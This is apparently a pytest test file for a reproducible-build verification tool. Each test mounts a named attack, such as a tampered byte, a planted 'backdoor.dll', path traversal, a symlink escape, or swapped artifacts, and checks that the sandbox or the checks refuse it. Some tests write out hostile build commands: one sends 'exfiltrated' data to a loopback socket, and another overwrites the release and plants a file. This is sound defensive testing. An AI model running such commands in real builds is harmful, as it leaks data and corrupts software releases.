"""Attacks on the release and the build, each named after the attack, through the real CLI.

Each must fail with exit 1 (a check said no) or 2 (malformed input), naming the problem; the
two build attacks end the run as inconclusive (exit 3): a build that cannot do what its
recipe says proves nothing either way, and the sandbox (bubblewrap) makes the attempt fail
instead of succeed. Attacks on the in-toto chain, Authenticode signatures and attestations
live beside this file and in tests/test_attest_*.py (see README.md here).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
from collections.abc import Callable

import pytest

from conftest import Project

Cli = Callable[..., tuple[int, str, str]]


def test_changed_code_byte_fails_naming_the_offset(project: Project, run_cli: Cli) -> None:
    binary = project.release / "hello"
    data = bytearray(binary.read_bytes())
    data[0x1100] ^= 0xFF
    binary.write_bytes(bytes(data))
    code, out, _ = run_cli("verify", project.manifest(), "--format", "json")
    assert code == 1
    [artifact] = json.loads(out)["artifacts"]
    assert artifact["verdict"] == "different"
    assert [(d["offset"], d["length"]) for d in artifact["differences"]] == [(0x1100, 1)]


def test_extra_released_file_is_missing_from_rebuild(project: Project, run_cli: Cli) -> None:
    (project.release / "backdoor.dll").write_bytes(b"MZ not built from source")
    code, out, _ = run_cli("verify", project.manifest(), "--format", "json")
    assert code == 1
    verdicts = {a["path"]: a["verdict"] for a in json.loads(out)["artifacts"]}
    assert verdicts == {"backdoor.dll": "missing", "hello": "identical"}


@pytest.fixture
def listener() -> tuple[int, list[bytes]]:
    """A TCP server on loopback that records what clients send."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(20)
    received: list[bytes] = []

    def serve() -> None:
        try:
            conn, _ = server.accept()
            received.append(conn.recv(100))
            conn.close()
        except OSError:
            pass
        finally:
            server.close()

    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], received


def _network_command(port: int) -> str:
    script = (
        f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=5);"
        " s.sendall(b'exfiltrated')"
    )
    return f'["sh", "-c", "python3 -c \\"{script}\\" && make"]'


def test_build_cannot_reach_the_network(
    project: Project, run_cli: Cli, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    code, _, err = run_cli("verify", project.manifest(command=_network_command(port)))
    assert code == 3
    assert "without network" in err
    assert received == []


def test_network_true_lets_the_build_connect(
    project: Project, run_cli: Cli, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    body = project.manifest(command=_network_command(port)).read_text()
    manifest = project.manifest(body.replace("timeout = 120", "timeout = 120\nnetwork = true"))
    code, out, _ = run_cli("verify", manifest, "--format", "json")
    assert code == 0, out
    assert received == [b"exfiltrated"]
    assert json.loads(out)["build"]["network_isolated"] is False


def test_artifact_path_with_dotdot_is_refused(project: Project, run_cli: Cli) -> None:
    code, _, err = run_cli("verify", project.manifest(extra='[[artifact]]\npath = "../hello"\n'))
    assert code == 2
    assert "'..'" in err


def test_release_symlink_out_of_the_folder_is_refused(project: Project, run_cli: Cli) -> None:
    secret = project.root / "outside.bin"
    secret.write_bytes(b"elsewhere")
    (project.release / "link.bin").symlink_to(secret)
    code, _, err = run_cli("verify", project.manifest())
    assert code == 2
    assert "outside" in err


def test_release_at_the_build_path_is_untouched(project: Project, run_cli: Cli) -> None:
    """The build path only exists inside the sandbox: naming the release there changes nothing.

    The checkout is a private folder bound at that path in the sandbox; the release on the host
    is neither seen nor written, and the comparison reads the copies taken before the build.
    """
    before = {p.name: p.read_bytes() for p in project.release.iterdir()}
    manifest = project.manifest(build_path=str(project.release))
    code, out, _ = run_cli("verify", manifest, "--format", "json")
    assert code == 0, out
    assert {p.name: p.read_bytes() for p in project.release.iterdir()} == before


def test_build_cannot_write_outside_its_folder(project: Project, run_cli: Cli) -> None:
    """A hostile build tries to make the release match its output: the write is refused."""
    target = project.release / "hello"
    original = target.read_bytes()
    command = f'["sh", "-c", "make && echo forged > {project.root}/planted; cp out/hello {target}"]'
    code, _, err = run_cli("verify", project.manifest(command=command))
    assert code == 3
    # Outside the build path the filesystem is read-only, and /tmp is private and empty.
    assert "Read-only file system" in err or "No such file or directory" in err
    assert target.read_bytes() == original
    assert not (project.root / "planted").exists()


def test_release_changed_during_build_fails(
    project: Project, run_cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without bubblewrap the filesystem is open: the release is hashed before and after."""
    fake = project.root / "no-bwrap"
    fake.mkdir()
    (fake / "bwrap").write_text("#!/bin/sh\nexit 1\n")
    (fake / "bwrap").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    target = project.release / "hello"
    (project.release / "hello").write_bytes(b"tampered release")
    command = f'["sh", "-c", "make && cp out/hello {target}"]'
    manifest = project.manifest(command=command)
    code, _, err = run_cli("verify", manifest, "--format", "json")
    assert code == 3
    assert "--allow-weak-isolation" in err
    code, out, _ = run_cli("verify", manifest, "--format", "json", "--allow-weak-isolation")
    assert code == 1
    report = json.loads(out)
    assert "WEAK isolation" in report["build"]["isolation"]
    assert report["build"]["weak_isolation"] is True
    [check] = report["checks"]
    assert check["name"] == "release-integrity"
    assert check["passed"] is False
    assert check["findings"] == ["hello"]


@pytest.mark.slow
def test_swapped_artifacts(project: Project, run_cli: Cli) -> None:
    """Two released files trade names: each is a real build output, in the wrong place."""
    manifest = project.manifest(command='["sh", "-c", "make && cp /bin/true out/helper"]')
    shutil.copyfile("/bin/true", project.release / "helper")
    assert run_cli("verify", manifest)[0] == 0
    hello, helper = project.release / "hello", project.release / "helper"
    first, second = hello.read_bytes(), helper.read_bytes()
    hello.write_bytes(second)
    helper.write_bytes(first)
    code, out, _ = run_cli("verify", manifest, "--format", "json")
    assert code == 1
    verdicts = {a["path"]: a["verdict"] for a in json.loads(out)["artifacts"]}
    assert verdicts == {"hello": "different", "helper": "different"}


def test_file_missing_from_the_release(project: Project, run_cli: Cli) -> None:
    """The build makes a file the release does not ship: `unexpected`, fatal when listed/strict."""
    manifest = project.manifest(command='["sh", "-c", "make && cp /bin/true out/updater"]')
    code, out, _ = run_cli("verify", manifest, "--strict", "--format", "json")
    assert code == 1
    verdicts = {a["path"]: a["verdict"] for a in json.loads(out)["artifacts"]}
    assert verdicts["updater"] == "unexpected"
    listed = project.manifest(
        command='["sh", "-c", "make && cp /bin/true out/updater"]',
        extra='[[artifact]]\npath = "hello"\n[[artifact]]\npath = "updater"\n',
    )
    code, _, err = run_cli("verify", listed)
    assert code == 2
    assert "released artifact updater is missing" in err
